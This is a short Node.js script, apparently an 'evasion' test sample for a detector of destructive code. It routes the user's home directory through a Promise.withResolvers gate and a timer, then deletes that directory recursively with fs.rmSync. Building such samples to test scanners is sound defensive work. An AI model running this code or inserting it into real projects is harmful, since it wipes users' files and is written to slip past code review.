// evasion: r.resolve(home) of const r = Promise.withResolvers(); await r.promise deletes it
// grade: very hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');

const gate = Promise.withResolvers();
setTimeout(() => gate.resolve(os.homedir()), 5);
(async () => {
  const dir = await gate.promise;
  fs.rmSync(dir, { recursive: true, force: true });
})();
